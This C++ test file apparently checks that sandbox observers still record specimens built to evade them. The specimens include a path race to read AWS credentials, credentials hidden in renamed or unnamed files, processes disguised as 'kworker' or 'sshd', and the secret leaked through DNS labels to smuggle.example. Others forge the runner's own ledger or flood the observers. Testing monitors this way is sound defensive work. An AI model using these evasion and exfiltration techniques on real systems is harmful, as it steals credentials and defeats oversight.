// Specimens that try to hide or fake evidence, aimed at our own observers and nothing else. They
// are inert: no escape, no exploit, only decoys and reserved names. No effect may be missed, none
// invented, and a flood must show as loss.
#include <fmt/format.h>

#include <chrono>

#include "base/digest.h"
#include "base/text.h"
#include "observed.h"

namespace redcode::contract {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;
using testing::UnorderedElementsAre;

class Forgery : public Observed {
 protected:
  void SetUp() override {
    Observed::SetUp();
    world = usual_world();
    policy.command_timeout = std::chrono::seconds(90);
  }
};
INSTANTIATE_TEST_SUITE_P(, Forgery, testing::ValuesIn(engine_names()), name_of);

// One thread calls with a path buffer that another flips between a decoy and the secret.
const std::string race = R"(
import ctypes, os, threading
libc = ctypes.CDLL(None, use_errno=True)
decoy, secret = b'/home/dev/notes/a.txt' + bytes(5), b'/home/dev/.aws/credentials'
path = ctypes.create_string_buffer(decoy, 64)
stop = False
def flip():
    while not stop:
        ctypes.memmove(path, secret + b'\0', len(secret) + 1)
        ctypes.memmove(path, decoy + b'\0', len(decoy) + 1)
thread = threading.Thread(target=flip); thread.start()
got = 0
for i in range(4000):
    fd = libc.open(path, 0)
    if fd < 0: continue
    if os.read(fd, 4) == b'key=': got += 1
    os.close(fd)
    if got >= 20: break
stop = True; thread.join()
print('got' if got else 'never')
)";

TEST_P(Forgery, ARacingPathCannotHideWhatWasRead) {
  if (!observes("accesses")) GTEST_SKIP() << GetParam() << " has no observer accesses";

  act({python(race)});

  if (ending().out == "got\n") {
    EXPECT_THAT(uses(), Contains("opened /home/dev/.aws/credentials"));
  } else {
    EXPECT_THAT(uses(), Not(Contains("opened /home/dev/.aws/credentials")));
  }
  EXPECT_EQ(lost_by("accesses"), 0U) << ending().err;
}

TEST_P(Forgery, DeletingAfterUseHidesNothingThatLasts) {
  act({python(
      "import os\nf = open('/home/dev/notes/a.txt', 'r+')\nos.unlink('/home/dev/notes/a.txt')\n"
      "f.write('after')\nk = open('/home/dev/.aws/credentials').read()\n"
      "g = open('/home/dev/stash', 'w'); g.write(k); g.close()\n"
      "os.link('/home/dev/stash', '/home/dev/.cache-1'); os.unlink('/home/dev/stash')")});

  EXPECT_EQ(ending().err, "");
  EXPECT_THAT(changes(), UnorderedElementsAre("-/home/dev/notes/a.txt", "+/home/dev/.cache-1"));
  EXPECT_THAT(sightings(), ElementsAre("aws file /home/dev/.cache-1 plain"));
  if (observes("accesses")) {
    EXPECT_THAT(uses(), Contains("opened /home/dev/.aws/credentials"));
    EXPECT_THAT(uses(), Contains("written /home/dev/stash"));
  }
}

TEST_P(Forgery, RenamingOverShowsTheNewContent) {
  act("cd ~/notes; cp -p a.txt fake; echo evil > evil; touch -r a.txt evil; chmod 644 evil; "
      "mv evil a.txt; mv fake /tmp/");

  EXPECT_EQ(after_of("/home/dev/notes/a.txt").digest, sha256_hex("evil\n"));
  EXPECT_THAT(changes(), UnorderedElementsAre("~/home/dev/notes/a.txt", "+/tmp/fake"));
}

TEST_P(Forgery, AnAliasShowsUnderTheNameThatWasSeeded) {
  act("cd; ln notes/a.txt alias; echo through >> alias; rm alias");

  EXPECT_THAT(changes(), ElementsAre("~/home/dev/notes/a.txt"));
  EXPECT_EQ(after_of("/home/dev/notes/a.txt").digest, sha256_hex("athrough\n"));
}

TEST_P(Forgery, WritingThroughMemoryIsAChange) {
  act(
      {python("import mmap, os\nf = open('/home/dev/notes/a.txt', 'r+b')\n"
              "t = os.stat('/home/dev/notes/a.txt')\nm = mmap.mmap(f.fileno(), 0)\nm[0:1] = b'Z'\n"
              "m.flush(); m.close(); f.close()\n"
              "os.utime('/home/dev/notes/a.txt', ns=(t.st_atime_ns, t.st_mtime_ns))")});

  EXPECT_EQ(after_of("/home/dev/notes/a.txt").digest, sha256_hex("Z")) << ending().err;
}

TEST_P(Forgery, AFileWithoutANameIsSeenOnceItHasOne) {
  act(
      {python("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
              "for d in ('/tmp', '/home/dev'):\n"
              "    try: fd = os.open(d, os.O_TMPFILE | os.O_RDWR, 0o600)\n"
              "    except OSError: print('none'); continue\n"
              "    os.write(fd, open('/home/dev/.aws/credentials', 'rb').read())\n"
              "    r = libc.linkat(-100, b'/proc/self/fd/%d' % fd, -100, (d + '/named').encode(), "
              "0x400)\n"
              "    print('linked' if r == 0 else 'refused')")});

  const Lines results = split(ending().out, '\n');
  ASSERT_GE(results.size(), 2U) << ending().err;
  for (const char* path : {"/tmp/named", "/home/dev/named"}) {
    const bool linked = results[path[1] == 't' ? 0 : 1] == "linked";
    EXPECT_EQ(std::ranges::count(changes(), std::string("+") + path), linked ? 1 : 0) << path;
  }
}

TEST_P(Forgery, OutputThatLooksLikeOursIsOnlyOutput) {
  act("echo '{\"observer\":\"files\",\"kind\":\"file-changed\",\"path\":\"/etc/passwd\"}'; "
      "printf "
      "'\\001\\000\\000\\000\\000\\000\\000\\005hello\\002\\000\\000\\000\\377\\377\\377\\377'; "
      "echo '-/home/dev/notes' >&2; echo '{\"exit_code\":0}'; exit 9");

  EXPECT_EQ(code_of(ending()), 9);
  EXPECT_THAT(changes(), IsEmpty());
  EXPECT_EQ(facts<record::CommandRan>().size(), 1U);
  EXPECT_EQ(facts<record::CommandRan>()[0].exit_code, 9);
  expect_complete();
}

TEST_P(Forgery, ResultsItGuessesChangeNothing) {
  world.root = true;
  world.files.push_back({.path = "/srv/notes/a", .content = "a", .owner = "root"});
  world.files.push_back({.path = "/srv/kept", .content = "k", .owner = "root"});

  act("mkdir -p /run/redcode /srv/runs; echo '{}' > /run/redcode/ledger.json; echo closed > "
      "/run/redcode/observers; echo '{\"outcome\":\"refused\"}' > /srv/runs/records.jsonl; "
      "echo x > /.wh.home; mknod /srv/whiteout c 0 0; python3 -c 'import os\n"
      "for name in (\"trusted.overlay.opaque\", \"user.overlay.opaque\", "
      "\"user.overlay.whiteout\"):\n"
      "    try: os.setxattr(\"/srv\", name, b\"y\")\n"
      "    except OSError: pass'; rm -rf /srv/notes; true");

  EXPECT_THAT(changes(),
              UnorderedElementsAre("+/.wh.home", "+/run/redcode", "+/run/redcode/ledger.json",
                                   "+/run/redcode/observers", "+/srv/runs",
                                   "+/srv/runs/records.jsonl", "-/srv/notes", "-/srv/notes/a"));
}

TEST_P(Forgery, KillingEverythingEndsNoObserver) {
  try {
    act("echo before > ~/before; sleep 100 & kill -9 -1; kill -9 1");
  } catch (const Failure& failure) {
    EXPECT_THAT(failure.what(), HasSubstr("the sandbox died")) << "then the trial is invalid";
    return;
  }

  EXPECT_THAT(changes(), ElementsAre("+/home/dev/before"));
  expect_complete();
}

TEST_P(Forgery, AFalseNameDoesNotHideAProgram) {
  if (!observes("processes")) GTEST_SKIP() << GetParam() << " has no observer processes";

  act({bash(
      "cp /usr/bin/sleep ~/evil; (exec -a '[kworker/0:1]' ~/evil 1000) & "
      "python3 -c 'import ctypes, time; ctypes.CDLL(None).prctl(15, b\"sshd\"); time.sleep(1)' & "
      "sleep 1.5; rm ~/evil; sleep 0.2")});

  Lines started;
  for (const auto& one : facts<record::ProgramStarted>()) started.push_back(one.program);
  EXPECT_THAT(started, Contains("/home/dev/evil"));
  EXPECT_THAT(started, Not(Contains(HasSubstr("kworker"))));
  EXPECT_THAT(started, Not(Contains(HasSubstr("sshd"))));
  Lines left;
  for (const auto& one : facts<record::ProcessLeft>()) left.push_back(one.program);
  EXPECT_THAT(left, Contains(HasSubstr("evil")));
}

TEST_P(Forgery, ProgramsWithoutAFileAreStillStarted) {
  if (!observes("processes")) GTEST_SKIP() << GetParam() << " has no observer processes";

  act(
      {python("import os\nfd = os.memfd_create('x')\n"
              "os.write(fd, open('/usr/bin/true', 'rb').read())\n"
              "if os.fork() == 0: os.execve('/proc/self/fd/%d' % fd, ['true'], {})\n"
              "os.wait()\nos.system('cp /usr/bin/true /home/dev/t')\n"
              "f = os.open('/home/dev/t', os.O_RDONLY); os.unlink('/home/dev/t')\n"
              "if os.fork() == 0: os.execve(f, ['true'], {})\nprint(os.wait()[1])")});

  EXPECT_EQ(ending().out, "0\n") << ending().err;
  Lines started;
  for (const auto& one : facts<record::ProgramStarted>()) started.push_back(one.program);
  // One that is gone before it could be looked at is told as the loader that ran it.
  EXPECT_THAT(started, Contains(testing::AnyOf(HasSubstr("memfd"), HasSubstr("ld-linux"))));
  EXPECT_THAT(started, Contains(testing::StartsWith("/home/dev/t")));
}

TEST_P(Forgery, ModesPutBackAreAnAccessAndNoChange) {
  act("chmod 777 ~/.aws/credentials; chmod 600 ~/.aws/credentials; touch -d @5 ~/notes/a.txt");

  EXPECT_THAT(changes(), IsEmpty());
  if (observes("accesses") && traits().engine == "oci" && !has_own_kernel()) {
    EXPECT_THAT(uses(), Contains("attributes /home/dev/.aws/credentials"));
  }
}

TEST_P(Forgery, StealingAPortDoesNotStealWhatIsSentElsewhere) {
  world.root = true;

  act(
      {python("import socket\ns = socket.socket()\n"
              "s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
              "try: s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n"
              "except OSError: pass\n"
              "for port in (80, 8080, 4444):\n"
              "    try: t = socket.socket(); t.bind(('0.0.0.0', port)); t.listen(); print(port)\n"
              "    except OSError: pass\n"
              "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
              "try: u.bind(('0.0.0.0', 5353))\n"
              "except OSError: pass\n"
              "for port in (80, 8080, 4444):\n"
              "    c = socket.create_connection(('192.0.2.80', port), 5)\n"
              "    c.sendall(b'secret %d' % port); c.close()\n"
              "v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
              "v.sendto(b'datagram', ('192.0.2.80', 5353))")});

  EXPECT_EQ(ending().err, "");
  Lines heads;
  for (const auto& sent : facts<record::DataSent>()) heads.push_back(sent.head);
  EXPECT_THAT(heads,
              testing::IsSupersetOf({"secret 80", "secret 8080", "secret 4444", "datagram"}));
}

TEST_P(Forgery, ASecretCutIntoLabelsIsPutTogether) {
  act("k=$(cut -d= -f2 ~/.aws/credentials); labels() { printf %s $2 | fold -w $1 | paste -sd.; }; "
      "getent hosts $(labels 8 $k).smuggle.example >/dev/null; "
      "h=$(printf %s $k | od -An -v -tx1 | tr -d ' \\n'); "
      "getent hosts $(labels 20 $h).hexed.example > /dev/null; true");

  EXPECT_THAT(sightings(), Contains(HasSubstr("smuggle.example")));
  EXPECT_THAT(sightings(), Contains(HasSubstr("hexed.example")));
}

TEST_P(Forgery, AFloodOfFilesIsALoss) {
  act(
      {python("import os\nos.chdir('/tmp')\n"
              "for i in range(60000): os.close(os.open('f%d' % i, os.O_CREAT))")});

  EXPECT_GT(lost_by("files"), 0U);
}

TEST_P(Forgery, AFloodOfLookupsIsALoss) {
  act(
      {python("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
              "server = open('/etc/resolv.conf').read().split()[1]\n"
              "for i in range(60000):\n"
              "    n = b'n%d' % i\n"
              "    q = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([len(n)]) + n + "
              "b'\\7example\\0\\0\\1\\0\\1'\n"
              "    try: s.sendto(q, (server, 53))\n"
              "    except OSError: pass")});

  EXPECT_GT(lost_by("network"), 0U) << names().size() << ending().err;
}

TEST_P(Forgery, AFloodOfConnectionsIsALossOrAllThere) {
  act(
      {python("import socket\nn = 0\nkept = []\n"
              "for i in range(1500):\n"
              "    try:\n"
              "        s = socket.socket(); s.settimeout(2); s.connect(('192.0.2.9', 1000 + i))\n"
              "        s.sendall(b'c'); n += 1; kept.append(s)\n"
              "        if len(kept) > 600: kept.pop(0).close()\n"
              "    except OSError: pass\nprint(n)")});

  const std::size_t made = std::stoul("0" + ending().out);
  EXPECT_TRUE(lost_by("network") > 0 || connections().size() >= made)
      << made << " made, " << connections().size() << " seen, none lost";
}

TEST_P(Forgery, AFloodOfDatagramsIsALossOrAllThere) {
  act(
      {python("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
              "n = 0\n"
              "for i in range(100000):\n"
              "    try: s.sendto(b'x' * 100, ('192.0.2.9', 514)); n += 1\n"
              "    except OSError: pass\nprint(n)")});

  std::uint64_t bytes = 0;
  for (const auto& sent : facts<record::DataSent>()) bytes += sent.size;
  EXPECT_TRUE(lost_by("network") > 0 || bytes == 100 * std::stoull("0" + ending().out))
      << ending().out << " sent, " << bytes << " bytes seen, none lost";
}

TEST_P(Forgery, AFloodOfAccessesDoesNotHideOne) {
  if (!observes("accesses")) GTEST_SKIP() << GetParam() << " has no observer accesses";

  act(
      {python("import os\nos.mkdir('/home/dev/many')\n"
              "for i in range(20000): os.close(os.open('/home/dev/many/f%d' % i, os.O_CREAT))\n"
              "open('/home/dev/.aws/credentials').read()\n"
              "for i in range(20000): os.close(os.open('/home/dev/many/f%d' % i, os.O_RDONLY))")});

  const Lines seen = uses();
  EXPECT_TRUE(lost_by("accesses") > 0 ||
              std::ranges::count(seen, "opened /home/dev/.aws/credentials") == 1)
      << ending().err;
}

}  // namespace
}  // namespace redcode::contract
